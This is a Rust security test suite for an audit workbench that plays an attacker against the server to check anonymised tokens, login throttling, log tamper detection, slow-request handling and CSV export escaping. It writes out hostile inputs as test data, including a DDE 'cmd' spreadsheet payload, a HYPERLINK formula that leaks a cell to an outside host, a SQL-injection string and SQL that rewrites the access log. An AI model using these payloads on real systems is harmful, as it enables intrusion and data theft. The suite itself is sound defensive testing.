//! Issue 14: the workbench attacked as a curious oversight user or someone on the network
//! would. Each test is one finding of the issue, driven over HTTP against the real binary.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::serve::{add_user, header, http, login};
use crate::support::{
    audited_world, custodes, gen_world, reference_secrets, start_server, start_server_with,
};

/// Every value of these columns in a reference CSV.
fn column(refs: &Path, file: &str, cols: &[&str]) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    let Ok(mut r) = csv::Reader::from_path(refs.join(file)) else {
        return out;
    };
    let headers = r.headers().unwrap().clone();
    for row in r.records() {
        let row = row.unwrap();
        for (h, v) in headers.iter().zip(row.iter()) {
            if cols.contains(&h) && !v.is_empty() {
                out.insert(v.to_string());
            }
        }
    }
    out
}

/// The alert id scheme of `src/alert/mod.rs`, as an attacker would copy it.
fn unkeyed_alert_id(parts: &[&str]) -> String {
    let mut h = Sha256::new();
    for p in parts {
        h.update(p.as_bytes());
        h.update([0x1f]);
    }
    let d = h.finalize();
    let mut s = "al-".to_string();
    for b in d.iter().take(8) {
        s.push_str(&format!("{b:02x}"));
    }
    s
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Every token of the form `X-hexdigits` (8 or more) in a text: the identifiers a page or
/// an answer carries.
fn identifiers(text: &str) -> BTreeSet<String> {
    let re = regex::Regex::new(r"\b([A-Za-z]{1,3})-([0-9a-f]{8,64})\b").unwrap();
    re.captures_iter(text)
        .map(|c| c.get(0).unwrap().as_str().to_string())
        .collect()
}

fn days_around(ts: &str) -> Vec<String> {
    let Some(d) = ts
        .get(..10)
        .and_then(|d| chrono::NaiveDate::parse_from_str(d, "%Y-%m-%d").ok())
    else {
        return Vec::new();
    };
    (-1..=1)
        .map(|k| (d + chrono::Duration::days(k)).to_string())
        .collect()
}

#[test]
fn issue14_oversight_receives_nothing_the_roster_rebuilds() {
    let (_dir, db, refs) = audited_world(9);
    add_user(&db, "investigator", "ia_nowak");
    add_user(&db, "oversight", "ov_lindqvist");
    let server = start_server(&db);
    let a = server.addr.as_str();

    // An investigator triages an alert, so its history reaches oversight too.
    let (cookie, csrf) = login(a, "ia_nowak", "ia_nowak has a long password");
    let (_, _, body) = http(a, "GET", "/api/v1/alerts", &[("Cookie", &cookie)], "");
    let irows: Vec<Value> = serde_json::from_str(&body).unwrap();
    let raw_id = irows[0]["alert_id"].as_str().unwrap().to_string();
    let t = r#"{"status":"in_review","assignee":"ia_nowak","note":"looking"}"#;
    let (s, _, b) = http(
        a,
        "POST",
        &format!("/api/v1/alerts/{raw_id}/triage"),
        &[
            ("Cookie", &cookie),
            ("Content-Type", "application/json"),
            ("X-CSRF-Token", &csrf),
        ],
        t,
    );
    assert_eq!(s, 200, "{b}");

    // Everything oversight can read: every list, every alert, every timeline, as JSON and
    // as pages, with their headers.
    let (ocookie, _) = login(a, "ov_lindqvist", "ov_lindqvist has a long password");
    let oc = [("Cookie", ocookie.as_str())];
    let mut received = Vec::new();
    let mut get = |path: &str| -> String {
        let (s, h, b) = http(a, "GET", path, &oc, "");
        assert_eq!(s, 200, "{path}: {b}");
        received.push(path.to_string());
        for (k, v) in h {
            received.push(format!("{k}: {v}"));
        }
        received.push(b.clone());
        b
    };
    let rows: Vec<Value> = serde_json::from_str(&get("/api/v1/alerts")).unwrap();
    assert_eq!(rows.len(), irows.len());
    let users: Vec<Value> = serde_json::from_str(&get("/api/v1/users")).unwrap();
    get("/api/v1/overview");
    for p in ["/", "/alerts", "/users"] {
        get(p);
    }
    for r in &rows {
        let id = r["alert_id"].as_str().unwrap();
        get(&format!("/api/v1/alerts/{id}"));
    }
    for r in rows.iter().take(5) {
        get(&format!("/alerts/{}", r["alert_id"].as_str().unwrap()));
    }
    let mut timelines = Vec::new();
    for u in &users {
        let u = u["user"].as_str().unwrap();
        timelines.push(get(&format!("/api/v1/users/{u}/timeline")));
        get(&format!("/users/{u}/timeline"));
    }
    // Their order follows only what they show (not the raw ids or exact times behind).
    for t in &timelines {
        let t: Value = serde_json::from_str(t).unwrap();
        let keys: Vec<(String, String)> = t["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| {
                let s = |k: &str| r[k].as_str().unwrap().to_string();
                (s("window_start"), s("alert_id"))
            })
            .collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(
            keys, sorted,
            "a timeline's alerts in an order that shows more"
        );
    }
    let all = received.join("\n");

    // The roster an attacker holds: logins, employee, person, watch-list, association and
    // case ids.
    let logins = column(&refs, "personnel.csv", &["user"]);
    let employees = column(&refs, "personnel.csv", &["employee_id"]);
    let mut people = column(&refs, "personnel.csv", &["person_id"]);
    for f in ["associations.csv", "watchlist.csv", "case_subjects.csv"] {
        people.extend(column(&refs, f, &["person_id"]));
    }
    let cases = column(&refs, "cases.csv", &["case_id"]);
    // The group key each detector family puts in its alert ids.
    let groups_of = |detector: &str, kind: &str| -> Vec<String> {
        match detector {
            "self_query" | "coworker_lookup" => {
                employees.iter().map(|e| format!("employee:{e}")).collect()
            }
            "association_lookup" => people.iter().map(|p| format!("association:{p}")).collect(),
            "watchlist_lookup" => people.iter().map(|p| format!("watch:{p}")).collect(),
            "subject_surge" => people.iter().map(|p| format!("person:{p}")).collect(),
            "no_case" => cases.iter().map(|c| format!("case:{c}")).collect(),
            _ => vec![kind.to_string(), "account".into(), String::new()],
        }
    };
    let mut plain: Vec<&String> = logins.iter().collect();
    plain.extend(employees.iter());
    plain.extend(people.iter());

    // No roster id in the clear.
    let clear: Vec<&&String> = plain.iter().filter(|v| all.contains(v.as_str())).collect();
    assert!(clear.is_empty(), "oversight received {clear:?}");
    let leaked: Vec<String> = reference_secrets(&refs)
        .into_iter()
        .filter(|s| all.contains(s.as_str()))
        .collect();
    assert!(leaked.is_empty(), "oversight received {leaked:?}");

    // No identifier it received can be rebuilt from the roster without the store's key:
    // neither alert ids (detector, kind, login, group, day) nor unkeyed digests of a roster
    // value.
    let ids = identifiers(&all);
    assert!(!ids.is_empty(), "oversight received no identifier at all");
    let hex16: BTreeSet<String> = ids
        .iter()
        .filter_map(|i| i.split_once('-'))
        .map(|(_, h)| h.to_string())
        .collect();
    let seen: BTreeSet<(String, String, String)> = rows
        .iter()
        .flat_map(|r| {
            let s = |k: &str| r[k].as_str().unwrap().to_string();
            days_around(&s("window_start"))
                .into_iter()
                .map(move |d| (s("detector"), s("kind"), d))
        })
        .collect();
    let mut rebuilt = BTreeSet::new();
    for (det, kind, day) in &seen {
        for g in groups_of(det, kind) {
            for login in &logins {
                let id = unkeyed_alert_id(&[det, kind, login, &g, day]);
                if hex16.contains(&id[3..]) {
                    rebuilt.insert(format!("{id} = {det}/{kind}/{login}/{g}/{day}"));
                }
            }
        }
    }
    for v in &plain {
        let d = hex(&Sha256::digest(v.as_bytes()));
        for id in &ids {
            let (_, h) = id.split_once('-').unwrap();
            if d.starts_with(h) {
                rebuilt.insert(format!("{id} = sha256({v})"));
            }
        }
    }
    assert!(
        rebuilt.is_empty(),
        "oversight identifiers rebuilt from the roster: {rebuilt:?}"
    );

    // Units too small to hide anyone (fewer than 3 people) are not named.
    let mut members: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut r = csv::Reader::from_path(refs.join("personnel.csv")).unwrap();
    let h = r.headers().unwrap().clone();
    let col = |name: &str| h.iter().position(|x| x == name).unwrap();
    let (unit_col, emp_col) = (col("unit"), col("employee_id"));
    for row in r.records() {
        let row = row.unwrap();
        members
            .entry(row[unit_col].to_string())
            .or_default()
            .insert(row[emp_col].to_string());
    }
    let sizes: BTreeMap<String, usize> = members.into_iter().map(|(u, m)| (u, m.len())).collect();
    let small: Vec<&String> = sizes
        .iter()
        .filter(|(u, n)| **n < 3 && all.contains(u.as_str()))
        .map(|(u, _)| u)
        .collect();
    assert!(sizes.values().any(|n| *n < 3), "the world has small units");
    assert!(small.is_empty(), "oversight learned small units {small:?}");

    // Oversight navigates by its tokens; a raw alert id answers nothing, so guesses
    // cannot be confirmed one by one.
    let token = rows[0]["alert_id"].as_str().unwrap();
    assert!(token.starts_with("T-"), "{token}");
    assert_eq!(
        http(a, "GET", &format!("/api/v1/alerts/{token}"), &oc, "").0,
        200
    );
    assert_eq!(http(a, "GET", &format!("/alerts/{token}"), &oc, "").0, 200);
    assert_eq!(
        http(a, "GET", &format!("/api/v1/alerts/{raw_id}"), &oc, "").0,
        404
    );
    // Investigators keep the stable alert id.
    assert!(raw_id.starts_with("al-"));
    let (s, h, _) = http(
        a,
        "GET",
        &format!("/api/v1/alerts/{raw_id}"),
        &[("Cookie", &cookie)],
        "",
    );
    assert_eq!(s, 200);
    assert!(header(&h, "content-type").is_some());
}

/// Appends copies of a login's first lookup with these fields changed; returns the login.
fn inject_events(events: &Path, changes: &[(&str, &str)]) -> String {
    let text = std::fs::read_to_string(events).unwrap();
    let first: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["action"] == "query")
        .expect("a lookup");
    let mut ev = first.clone();
    ev["id"] = Value::from("ev-injected-1");
    for (k, v) in changes {
        ev[*k] = Value::from(*v);
    }
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(events)
        .unwrap();
    use std::io::Write;
    writeln!(f, "{ev}").unwrap();
    first["user"].as_str().unwrap().to_string()
}

#[test]
fn issue14_evidence_csv_cells_cannot_run_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let w = dir.path();
    gen_world(w, 9, 3);
    let typed = [
        (
            "query_text",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        ),
        ("case_id", "+cmd|' /C calc'!A0"),
        ("purpose", "-2+3"),
        ("subject_name", "@SUM(1+1)"),
        ("client", "\t=1+1"),
        ("subject_address", "'quoted"),
    ];
    let login0 = inject_events(&w.join("events.jsonl"), &typed);
    let db = w.join("alerts.db");
    custodes()
        .args(["audit", "--quiet", "--refs"])
        .arg(w.join("refs"))
        .arg("--db")
        .arg(&db)
        .arg(w.join("events.jsonl"))
        .assert()
        .success();
    add_user(&db, "investigator", "ia_nowak");
    let server = start_server(&db);
    let a = server.addr.as_str();
    let (cookie, _) = login(a, "ia_nowak", "ia_nowak has a long password");
    let c = [("Cookie", cookie.as_str())];
    let (s, h, csv) = http(a, "GET", &format!("/users/{login0}/export.csv"), &c, "");
    assert_eq!(s, 200, "{csv}");
    let digest = hex(&Sha256::digest(csv.as_bytes()));
    assert_eq!(header(&h, "x-content-sha256"), Some(digest.as_str()));
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let headers = r.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| r.get(0) == Some("ev-injected-1"))
        .expect("the injected event is in the packet");
    for rec in &rows {
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell: {cell:?}"
            );
        }
    }
    for (k, v) in typed {
        let i = headers.iter().position(|h| h == k).unwrap();
        // The reader trims what surrounds a field; the rest arrives as typed, quoted.
        assert_eq!(row.get(i), Some(format!("'{}", v.trim()).as_str()), "{k}");
    }
    // The HTML says how cells were escaped and names the digest of these bytes.
    let (s, _, html) = http(a, "GET", &format!("/users/{login0}/export.html"), &c, "");
    assert_eq!(s, 200);
    assert!(html.contains("CSV escaping") && html.contains("single quote"));
    assert!(html.contains(&digest), "the HTML states the CSV's digest");
}

fn login_status(addr: &str, name: &str, password: &str) -> (u16, Option<String>) {
    let body = serde_json::json!({"name": name, "password": password}).to_string();
    let (s, h, _) = http(
        addr,
        "POST",
        "/api/v1/login",
        &[("Content-Type", "application/json")],
        &body,
    );
    (s, header(&h, "retry-after").map(str::to_string))
}

#[test]
fn issue14_logins_are_throttled_per_account_and_per_address() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    add_user(&db, "investigator", "ia_nowak");
    add_user(&db, "investigator", "ia_kowalski");
    let server = start_server(&db);
    let a = server.addr.as_str();
    let right = "ia_nowak has a long password";

    // Wrong passwords for one account: refused, then throttled with a clear 429.
    let mut codes = Vec::new();
    for i in 0..8 {
        codes.push(login_status(
            a,
            "ia_nowak",
            &format!("wrong guess number {i}"),
        ));
    }
    let first429 = codes.iter().position(|(s, _)| *s == 429);
    assert!(
        codes.iter().take(5).all(|(s, _)| *s == 401),
        "the first failures are plain refusals: {codes:?}"
    );
    let first429 = first429.expect("throttled after repeated failures");
    assert!(first429 <= 5, "{codes:?}");
    let retry: u64 = codes[first429]
        .1
        .as_deref()
        .expect("Retry-After")
        .parse()
        .unwrap();
    assert!(retry > 0 && retry <= 15 * 60, "{retry}");
    // Even the right password waits now.
    assert_eq!(login_status(a, "ia_nowak", right).0, 429);
    // Another account from the same address is not locked by that.
    login(a, "ia_kowalski", "ia_kowalski has a long password");

    // One address guessing at many names is throttled too, known names or not.
    let mut last = 0;
    for i in 0..30 {
        last = login_status(a, &format!("nobody{i}"), "some wrong password").0;
        if last == 429 {
            break;
        }
    }
    assert_eq!(last, 429, "the address is throttled");
    let (s, retry) = login_status(a, "ia_kowalski", "ia_kowalski has a long password");
    assert_eq!(s, 429);
    assert!(retry.is_some());
    // The login page says so in words.
    let (s, h, page) = http(
        a,
        "POST",
        "/login",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        "name=ia_kowalski&password=x",
    );
    assert_eq!(s, 429);
    assert!(header(&h, "retry-after").is_some());
    assert!(page.contains("Too many failed logins"), "{page}");
}

#[test]
fn issue14_weak_passwords_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    for weak in [
        "aaaaaaaaaaaa",
        "Password1234",
        "qwertyuiop12",
        "123456789012",
        "Summer2024!!",
    ] {
        let out = custodes()
            .args(["user", "add", "--db"])
            .arg(&db)
            .args(["--role", "admin", "adm_weak"])
            .write_stdin(format!("{weak}\n"))
            .assert()
            .failure();
        let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
        assert!(err.contains("password"), "{weak}: {err}");
    }
    add_user(&db, "admin", "adm_strong");
}

#[test]
fn issue14_what_anyone_submits_cannot_fill_the_access_log() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    add_user(&db, "admin", "adm_okafor");
    let server = start_server(&db);
    let a = server.addr.as_str();
    let json = ("Content-Type", "application/json");

    // A login body far bigger than any name and password is refused before it is read.
    let huge = serde_json::json!({"name": "x".repeat(1 << 20), "password": "y"}).to_string();
    let (s, _, _) = http(a, "POST", "/api/v1/login", &[json], &huge);
    assert_eq!(s, 413, "a 1 MB login body");
    let form = format!("name={}&password=y", "x".repeat(1 << 20));
    let ctype = ("Content-Type", "application/x-www-form-urlencoded");
    assert_eq!(http(a, "POST", "/login", &[ctype], &form).0, 413);

    // A name that fits the body limit is logged cut short.
    let long = serde_json::json!({"name": "n".repeat(3000), "password": "y"}).to_string();
    assert_eq!(http(a, "POST", "/api/v1/login", &[json], &long).0, 401);
    // So are the filters a logged-in user sends.
    let (cookie, _) = login(a, "adm_okafor", "adm_okafor has a long password");
    let c = [("Cookie", cookie.as_str())];
    let q = format!("/api/v1/alerts?unit={}", "u".repeat(20_000));
    assert_eq!(http(a, "GET", &q, &c, "").0, 200);
    // Other POST bodies have a limit too.
    let big = serde_json::json!({"status": "open", "note": "z".repeat(1 << 20)}).to_string();
    let (s, _, _) = http(a, "POST", "/api/v1/alerts/al-x/triage", &[c[0], json], &big);
    assert_eq!(s, 413);
    drop(server);

    let conn = rusqlite::Connection::open(&db).unwrap();
    let (longest, total): (i64, i64) = conn
        .query_row(
            "SELECT max(length(account) + length(target)), sum(length(account) + length(target)) FROM access_log",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert!(
        longest <= 600,
        "an access-log entry of {longest} characters"
    );
    assert!(total < 4000, "the access log grew by {total} characters");
}

/// Runs `verify-log` with extra arguments: (exit code, stdout + stderr).
fn verify_log(db: &Path, extra: &[&str]) -> (i32, String) {
    let out = custodes()
        .args(["verify-log", "--db"])
        .arg(db)
        .args(extra)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

/// What someone who can write the store file but has no key does: edit an entry, or
/// drop entries, or add one, and re-hash the chain after it the way `verify-log` used to
/// check it.
fn rewrite_log(db: &Path, edit: &str) {
    let c = rusqlite::Connection::open(db).unwrap();
    c.execute_batch(
        "DROP TRIGGER access_log_append_only_update; DROP TRIGGER access_log_append_only_delete;",
    )
    .unwrap();
    c.execute_batch(edit).unwrap();
    let rows: Vec<(i64, String, String, String, String)> = c
        .prepare("SELECT seq, at, account, action, target FROM access_log ORDER BY seq")
        .unwrap()
        .query_map([], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    c.execute("DELETE FROM access_log", []).unwrap();
    let mut prev = custodes::store::workbench::GENESIS.to_string();
    for (i, (_, at, account, action, target)) in rows.iter().enumerate() {
        let seq = i as i64 + 1;
        let h = custodes::store::workbench::entry_hash(&prev, seq, at, account, action, target);
        c.execute(
            "INSERT INTO access_log (seq, at, account, action, target, prev_hash, hash) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7)",
            rusqlite::params![seq, at, account, action, target, prev, h],
        )
        .unwrap();
        prev = h;
    }
}

#[test]
fn issue14_a_rewritten_or_cut_access_log_fails_verification() {
    let dir = tempfile::tempdir().unwrap();
    let w = dir.path();
    let db = w.join("s.db");
    add_user(&db, "admin", "adm_okafor");
    {
        let server = start_server(&db);
        let a = server.addr.as_str();
        let (cookie, _) = login(a, "adm_okafor", "adm_okafor has a long password");
        for _ in 0..5 {
            let (s, _, _) = http(a, "GET", "/api/v1/alerts", &[("Cookie", &cookie)], "");
            assert_eq!(s, 200);
        }
    }
    let key = w.join("s.db.logkey");
    assert!(key.exists(), "serve made the log's key next to the store");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&key).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let (code, text) = verify_log(&db, &["--export-head", w.join("head").to_str().unwrap()]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("whole") && text.contains("sealed"), "{text}");
    let head = w.join("head");

    let tampered = |name: &str, edit: &str| -> PathBuf {
        let p = w.join(name);
        std::fs::copy(&db, &p).unwrap();
        std::fs::copy(&key, w.join(format!("{name}.logkey"))).unwrap();
        rewrite_log(&p, edit);
        p
    };
    let h = head.to_str().unwrap();
    // An entry edited, the chain recomputed after it.
    let edited = tampered(
        "edited.db",
        "UPDATE access_log SET target = 'nothing' WHERE seq = 3;",
    );
    let (code, text) = verify_log(&edited, &[]);
    assert_eq!(code, 1, "{text}");
    // Entries deleted and the rest re-chained.
    let deleted = tampered("deleted.db", "DELETE FROM access_log WHERE seq IN (2, 4);");
    assert_eq!(verify_log(&deleted, &[]).0, 1);
    // A forged entry inserted.
    let forged = tampered(
        "forged.db",
        "INSERT INTO access_log (seq, at, account, action, target, prev_hash, hash) VALUES (100, '2020-01-01T00:00:00Z', 'adm_okafor', 'login', 'admin', '', '');",
    );
    assert_eq!(verify_log(&forged, &[]).0, 1);
    // The tail cut off: the key cannot tell, the anchored head can.
    let cut = w.join("cut.db");
    std::fs::copy(&db, &cut).unwrap();
    std::fs::copy(&key, w.join("cut.db.logkey")).unwrap();
    {
        let c = rusqlite::Connection::open(&cut).unwrap();
        c.execute_batch(
            "DROP TRIGGER access_log_append_only_delete; DELETE FROM access_log WHERE seq > 3;",
        )
        .unwrap();
    }
    let (code, text) = verify_log(&cut, &["--head", h]);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("cut off"), "{text}");
    // The untouched log holds its head; without its key the check refuses to pass.
    assert_eq!(verify_log(&db, &["--head", h]).0, 0);
    std::fs::rename(&key, w.join("elsewhere.key")).unwrap();
    let (code, text) = verify_log(&db, &[]);
    assert_eq!(code, 2, "{text}");
    let (code, text) = verify_log(
        &db,
        &["--log-key", w.join("elsewhere.key").to_str().unwrap()],
    );
    assert_eq!(code, 0, "{text}");
}

/// Opens a connection on which one whole request was answered, so that the server has
/// surely accepted it and now waits on it (an idle keep-alive connection).
fn kept_alive(addr: &str) -> std::net::TcpStream {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.write_all(b"GET /api/v1/overview HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        assert_eq!(s.read(&mut b).unwrap(), 1, "the answer ended early");
        head.push(b[0]);
    }
    let head = String::from_utf8_lossy(&head).to_ascii_lowercase();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .expect("a content-length");
    let mut body = vec![0u8; len];
    s.read_exact(&mut body).unwrap();
    s
}

/// A kept-alive connection on which half of the next request head was sent.
fn half_head(addr: &str) -> std::net::TcpStream {
    use std::io::Write;
    let mut s = kept_alive(addr);
    s.write_all(b"GET /api/v1/overview HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .unwrap();
    s
}

/// Opens a connection and sends half a request (its head whole, a tenth of the body it
/// announces), so that the server is in the middle of reading it; returns the socket.
fn half_request(addr: &str) -> std::net::TcpStream {
    use std::io::Write;
    let mut s = kept_alive(addr);
    s.write_all(
        b"POST /api/v1/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"name\": \"a",
    )
    .unwrap();
    s
}

/// Whether the server closed the connection (rather than our generous read bound ending).
fn closed_by_server(mut s: std::net::TcpStream, bound: std::time::Duration) -> bool {
    use std::io::Read;
    s.set_read_timeout(Some(bound)).unwrap();
    let mut buf = [0u8; 1024];
    loop {
        match s.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return false
            }
            Err(_) => return true,
        }
    }
}

#[test]
fn issue14_half_sent_requests_are_closed_and_do_not_hold_shutdown() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    add_user(&db, "admin", "adm_okafor");
    // SIGTERM does not wait on half-sent requests (with the default idle timeout).
    let mut server = start_server(&db);
    let _held = [
        kept_alive(&server.addr),
        half_head(&server.addr),
        half_request(&server.addr),
    ];
    let status = server.terminate(std::time::Duration::from_secs(30));
    assert!(status.is_some(), "serve still running 30 s after SIGTERM");
    drop(server);
    // An idle keep-alive connection and a half-sent request are both closed by the server.
    let server = start_server_with(&db, &["--idle-timeout", "1"]);
    let a = server.addr.clone();
    let idle = kept_alive(&a);
    let bound = std::time::Duration::from_secs(20);
    assert!(
        closed_by_server(idle, bound),
        "an idle connection stayed open"
    );
    assert!(
        closed_by_server(half_head(&a), bound),
        "a half-sent request head stayed open"
    );
    assert!(
        closed_by_server(half_request(&a), bound),
        "a half-sent request body stayed open"
    );
}

#[test]
fn issue14_low_findings_hold() {
    let dir = tempfile::tempdir().unwrap();
    let w = dir.path();
    let db = w.join("s.db");
    add_user(&db, "admin", "adm_okafor");
    add_user(&db, "investigator", "ia_nowak");

    // A session length that cannot be represented is refused at the start, not at login.
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("custodes"))
        .args([
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--session-hours",
            "99999999999999",
            "--db",
        ])
        .arg(&db)
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let until = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break Some(st);
        }
        if std::time::Instant::now() > until {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(
        status.and_then(|s| s.code()),
        Some(2),
        "serve started with a session length it cannot represent"
    );
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert!(err.contains("session-hours"), "{err}");

    let server = start_server(&db);
    let a = server.addr.as_str();
    let (icookie, icsrf) = login(a, "ia_nowak", "ia_nowak has a long password");
    let ic = [("Cookie", icookie.as_str())];

    // The refusal of a cross-site request carries the security headers too.
    let (s, h, _) = http(
        a,
        "POST",
        "/api/v1/logout",
        &[
            ic[0],
            ("X-CSRF-Token", &icsrf),
            ("Origin", "http://evil.example"),
        ],
        "",
    );
    assert_eq!(s, 403);
    for k in [
        "content-security-policy",
        "x-content-type-options",
        "x-frame-options",
        "cache-control",
    ] {
        assert!(header(&h, k).is_some(), "the 403 lacks {k}");
    }

    // Periods are validated: 400 with a clear message.
    for q in [
        "/api/v1/alerts?from=yesterday",
        "/api/v1/users?to=2024-13-45",
        "/api/v1/alerts?from=2024-05-02&to=2024-05-01",
        "/api/v1/users/ia_nowak/timeline?from=x",
        "/alerts?from=%27%20OR%201%3D1",
    ] {
        let (s, _, b) = http(a, "GET", q, &ic, "");
        assert_eq!(s, 400, "{q}: {b}");
        assert!(b.contains("from") || b.contains("to"), "{q}: {b}");
    }
    let ok = "/api/v1/alerts?from=2024-05-01&to=2024-05-02T10:00:00Z";
    assert_eq!(http(a, "GET", ok, &ic, "").0, 200);

    // Exceptions are the admins', as `docs/workbench.md` says; reading them and the log is logged.
    assert_eq!(http(a, "GET", "/api/v1/exceptions", &ic, "").0, 403);
    assert_eq!(http(a, "GET", "/exceptions", &ic, "").0, 403);
    let (acookie, _) = login(a, "adm_okafor", "adm_okafor has a long password");
    let ac = [("Cookie", acookie.as_str())];
    assert_eq!(http(a, "GET", "/api/v1/exceptions", &ac, "").0, 200);
    assert_eq!(http(a, "GET", "/api/v1/access-log", &ac, "").0, 200);
    let (_, _, b) = http(a, "GET", "/api/v1/access-log?limit=50", &ac, "");
    let log: Vec<Value> = serde_json::from_str(&b).unwrap();
    for action in ["list_exceptions", "read_access_log"] {
        assert!(
            log.iter()
                .any(|e| e["action"] == action && e["account"] == "adm_okafor"),
            "{action} not logged: {b}"
        );
    }

    // `custodes user` revokes sessions, disables, enables and resets passwords.
    let user = |args: &[&str], stdin: &str| {
        custodes()
            .arg("user")
            .args(args)
            .arg("--db")
            .arg(&db)
            .arg("ia_nowak")
            .write_stdin(stdin.to_string())
            .output()
            .unwrap()
    };
    let alerts = |c: &str| http(a, "GET", "/api/v1/alerts", &[("Cookie", c)], "").0;
    assert_eq!(alerts(&icookie), 200);
    assert!(user(&["revoke"], "").status.success());
    assert_eq!(alerts(&icookie), 401, "revoked");
    let (c2, _) = login(a, "ia_nowak", "ia_nowak has a long password");
    assert!(user(&["disable"], "").status.success());
    assert_eq!(alerts(&c2), 401, "a disabled account's session ends");
    assert_eq!(
        login_status(a, "ia_nowak", "ia_nowak has a long password").0,
        401
    );
    assert!(user(&["enable"], "").status.success());
    let (c3, _) = login(a, "ia_nowak", "ia_nowak has a long password");
    let weak = user(&["reset-password"], "aaaaaaaaaaaa\n");
    assert_eq!(
        weak.status.code(),
        Some(2),
        "a weak new password is refused"
    );
    assert_eq!(alerts(&c3), 200, "a refused reset changes nothing");
    assert!(user(&["reset-password"], "a fresh and longer passphrase\n")
        .status
        .success());
    assert_eq!(alerts(&c3), 401, "a reset ends the sessions");
    assert_eq!(
        login_status(a, "ia_nowak", "ia_nowak has a long password").0,
        401
    );
    login(a, "ia_nowak", "a fresh and longer passphrase");
    let nobody = custodes()
        .args(["user", "disable", "--db"])
        .arg(&db)
        .arg("nobody")
        .output()
        .unwrap();
    assert_eq!(nobody.status.code(), Some(2));
    // Each change is in the sealed access log, which still verifies.
    drop(server);
    let conn = rusqlite::Connection::open(&db).unwrap();
    let changes: Vec<String> = conn
        .prepare("SELECT action FROM access_log WHERE account = '(custodes user)' AND target = 'ia_nowak' ORDER BY seq")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(
        changes,
        [
            "sessions_revoked",
            "account_disabled",
            "account_enabled",
            "password_reset"
        ]
    );
    let (code, text) = verify_log(&db, &[]);
    assert_eq!(code, 0, "{text}");
}
